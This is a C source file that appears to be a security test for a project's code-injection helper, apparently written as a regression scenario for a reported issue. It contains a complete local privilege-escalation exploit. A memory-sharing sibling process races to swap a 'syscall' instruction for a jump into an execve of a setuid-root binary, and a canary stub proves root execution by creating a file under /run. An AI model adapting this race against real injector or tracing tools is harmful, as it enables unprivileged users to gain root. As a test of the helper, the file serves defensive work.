/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The exec race of issue 23, for scenario 95-trust-exec-race (run as an
 * unprivileged user, against the injector helper):
 *
 *   pg-exec-race attack SUID POLL_US BURST_MS
 *           the attacker. It unmaps its vDSO, so the injector uses the
 *           `syscall` (0f 05) just before the RIP of a thread stopped in a
 *           syscall: its only thread sleeps in pause() through one at
 *           PWNED_ADDR + 5. A process that shares its memory (CLONE_VM: no
 *           thread of it, so the helper stops nothing of it) polls that
 *           thread's state every POLL_US; once it is in a tracing stop, it
 *           flips those two bytes, for BURST_MS, between the `syscall` and a
 *           jump to code that runs execve(SUID, [SUID, "canary"]). An
 *           injector that checked the instruction, and then runs whatever
 *           is there, watches the execve as its own syscall; if it then
 *           writes its saved registers back, the new setuid image resumes
 *           at the attacker's RIP.
 *   pg-exec-race canary
 *           what the setuid-root copy does when run normally: exits 7.
 *
 * In the canary image (not PIE), PWNED_ADDR holds nops up to code that
 * uses no stack, creates PWNED_FILE and exits 42: with euid 0 it can, so
 * the file, owned by root, proves that the setuid image ran from the
 * attacker's RIP (PWNED_ADDR + 7, after pause's `syscall`, or + 5 when the
 * kernel restarts it). */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PWNED_ADDR 0x10000000UL
#define SYSCALL_AT (PWNED_ADDR + 5)
#define STUB_AT (PWNED_ADDR + 0x40)

/* Linked at PWNED_ADDR (meson: --section-start). */
__asm__(".pushsection .pwned,\"ax\",@progbits\n"
        "        .byte 0x0f, 0x1f, 0x44, 0x00, 0x00\n"  /* nop, 5 bytes */
        "        .byte 0x66, 0x90\n"                    /* nop, 2 bytes: PWNED_ADDR + 5 */
        "pwned:\n"                                      /* PWNED_ADDR + 7 */
        "        lea pwned_file(%rip), %rdi\n"
        "        mov $0x241, %esi\n"          /* O_WRONLY|O_CREAT|O_TRUNC */
        "        mov $0644, %edx\n"
        "        mov $2, %eax\n"              /* open */
        "        syscall\n"
        "        mov $42, %edi\n"
        "        mov $231, %eax\n"            /* exit_group */
        "        syscall\n"
        "pwned_file: .asciz \"/run/pg-exec-race-pwned\"\n"
        ".popsection\n");

static struct {
        pid_t leader;
        long poll_us;
        long burst_ms;
} flip;

/* Raw syscalls only from here on: the vDSO is gone. */
static uint64_t now_us(void) {
        struct timespec ts;
        syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &ts);
        return (uint64_t) ts.tv_sec * 1000000 + (uint64_t) ts.tv_nsec / 1000;
}

static void sleep_us(long us) {
        struct timespec ts = { us / 1000000, (us % 1000000) * 1000 };
        syscall(SYS_nanosleep, &ts, NULL);
}

static char leader_state(void) {
        char path[64], buf[256];
        snprintf(path, sizeof(path), "/proc/%d/stat", (int) flip.leader);
        int fd = (int) syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        ssize_t n = syscall(SYS_read, fd, buf, sizeof(buf) - 1);
        syscall(SYS_close, fd);
        if (n <= 0)
                return 0;
        buf[n] = '\0';
        char *p = strrchr(buf, ')');
        return p && p[1] == ' ' ? p[2] : 0;
}

static int flipper(void *arg) {
        volatile uint16_t *insn = (volatile uint16_t *) SYSCALL_AT;
        (void) arg;

        /* Until the leader is in a tracing stop ('t'), or gone. */
        for (;;) {
                char s = leader_state();
                if (s == 't')
                        break;
                if (s == 0 || syscall(SYS_getppid) != flip.leader)
                        syscall(SYS_exit, 0);
                if (flip.poll_us > 0)
                        sleep_us(flip.poll_us);
                else
                        syscall(SYS_sched_yield);
        }
        uint64_t end = now_us() + (uint64_t) flip.burst_ms * 1000;
        for (unsigned long i = 1;; i++) {
                *insn = 0x050f;   /* syscall */
                *insn = 0x39eb;   /* jmp STUB_AT */
                if ((i & 0xfff) == 0 && now_us() >= end)
                        break;
        }
        *insn = 0x050f;
        syscall(SYS_exit, 0);
        return 0;
}

int main(int argc, char **argv) {
        if (argc == 2 && strcmp(argv[1], "canary") == 0)
                return 7;
        if (argc != 5 || strcmp(argv[1], "attack") != 0) {
                fprintf(stderr, "usage: %s attack SUID-COPY POLL_US BURST_MS | canary\n", argv[0]);
                return 2;
        }
        flip.poll_us = atol(argv[3]);
        flip.burst_ms = atol(argv[4]);

        /* The page the thread sleeps in: PWNED_ADDR, as in the canary. */
        uint8_t *p = mmap((void *) PWNED_ADDR, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        if (p == MAP_FAILED) {
                perror("mmap");
                return 2;
        }
        static const uint8_t sleeper[] = {
                0xb8, 0x22, 0x00, 0x00, 0x00,   /* mov $34 (pause), %eax */
                0x0f, 0x05,                     /* syscall, at SYSCALL_AT */
                0xeb, 0xf7,                     /* jmp PWNED_ADDR */
        };
        static const uint8_t stub[] = {
                0xbf, 0x00, 0x01, 0x00, 0x10,   /* mov $PWNED_ADDR+0x100, %edi */
                0xbe, 0x00, 0x02, 0x00, 0x10,   /* mov $PWNED_ADDR+0x200, %esi */
                0x31, 0xd2,                     /* xor %edx, %edx */
                0xb8, 0x3b, 0x00, 0x00, 0x00,   /* mov $59 (execve), %eax */
                0x0f, 0x05,                     /* syscall */
                0xeb, 0xfe,                     /* jmp . */
        };
        memcpy(p, sleeper, sizeof(sleeper));
        memcpy(p + (STUB_AT - PWNED_ADDR), stub, sizeof(stub));
        snprintf((char *) p + 0x100, 0x80, "%s", argv[2]);
        strcpy((char *) p + 0x180, "canary");
        uint64_t *args = (uint64_t *) (p + 0x200);
        args[0] = PWNED_ADDR + 0x100;
        args[1] = PWNED_ADDR + 0x180;
        args[2] = 0;

        /* Without a vDSO the injector uses the `syscall` just before the
         * RIP of a thread stopped in a syscall: ours, at SYSCALL_AT. */
        FILE *maps = fopen("/proc/self/maps", "re");
        char line[512];
        unsigned long start, end;
        while (maps && fgets(line, sizeof(line), maps))
                if (strstr(line, "[vdso]") && sscanf(line, "%lx-%lx", &start, &end) == 2 &&
                    munmap((void *) start, end - start) < 0) {
                        perror("munmap of the vDSO");
                        return 2;
                }
        if (maps)
                fclose(maps);
        flip.leader = (pid_t) syscall(SYS_getpid);

        static uint8_t stack[64 * 1024] __attribute__((aligned(16)));
        pid_t child = clone(flipper, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
        if (child < 0) {
                perror("clone");
                return 2;
        }
        printf("ready %d %d\n", (int) flip.leader, (int) child);
        fflush(stdout);
        ((void (*)(void)) PWNED_ADDR)();
        return 3;
}
